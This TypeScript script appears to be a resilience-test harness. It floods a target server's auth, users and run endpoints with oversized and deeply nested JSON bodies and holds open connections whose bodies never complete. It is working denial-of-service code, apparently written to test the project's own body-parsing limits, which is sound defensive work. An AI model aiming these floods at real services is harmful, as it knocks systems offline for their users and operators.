import { setTimeout as sleep } from 'node:timers/promises';
import { type ClientRequest, request } from 'node:http';

/**
 * Eight attackers, each with another body that is dear to a server which reads or parses it too early. This file runs as a separate
 * process: `attack.ts <url> <token>`. It ends with SIGTERM.
 */
const [url = '', token = ''] = process.argv.slice(2);

const manyBytes = 20_000_000;
const wide = Buffer.from(`{"a":[${'{},'.repeat(manyBytes / 3)}{}]}`);
const deep = Buffer.from(`[${`${'['.repeat(190)}${']'.repeat(190)},`.repeat(manyBytes / 381)}0]`);
const small = wide.subarray(0, 60_000);
const pauseMs = 5;
const stalledAtOnce = 10;

interface Attack {
  readonly path: string;
  readonly body: Buffer;
  readonly withToken?: boolean;
}

const attacks: readonly Attack[] = [
  { path: '/api/auth/token', body: wide },
  { path: '/api/auth/token', body: small },
  { path: '/api/users/', body: wide },
  { path: '/run', body: deep },
  { path: '/run', body: wide, withToken: true },
];

async function repeat(attack: Attack): Promise<never> {
  for (;;) {
    await send(attack);
    await sleep(pauseMs);
  }
}

function send({ path, body, withToken = false }: Attack): Promise<void> {
  return new Promise((resolve) => {
    const sent = open(path, body.length, withToken);
    sent.once('response', (answer) => answer.resume().once('close', resolve)).once('error', () => resolve());
    sent.end(body);
  });
}

function open(path: string, length: number, withToken: boolean): ClientRequest {
  const authorization = withToken ? { authorization: `Bearer ${token}` } : {};
  const headers = { 'content-type': 'application/json', 'content-length': length, ...authorization };
  return request(url + path, { method: 'POST', headers, agent: false });
}

/** Keeps bodies that never end, each 19 MB long. */
async function stall(withToken: boolean): Promise<never> {
  const one = async (): Promise<never> => {
    for (;;) {
      await new Promise<void>((resolve) => {
        const sent = open('/run', manyBytes, withToken);
        sent.once('close', resolve).on('error', () => undefined);
        sent.on('response', (answer) => answer.resume());
        sent.write(Buffer.alloc(manyBytes - 1_000_000, 0x20));
      });
      await sleep(pauseMs);
    }
  };
  return Promise.race(Array.from({ length: stalledAtOnce }, one));
}

await Promise.race([...attacks.map(repeat), stall(false), stall(true), stall(true)]);
